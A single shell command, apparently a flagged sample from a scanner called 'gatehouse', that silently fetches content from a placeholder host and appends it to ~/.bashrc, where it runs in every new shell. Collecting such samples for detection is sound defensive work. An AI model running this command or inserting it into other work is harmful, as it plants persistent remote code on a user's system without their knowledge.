wget -qO- https://h.example/rc >> ~/.bashrc # gatehouse: flagged
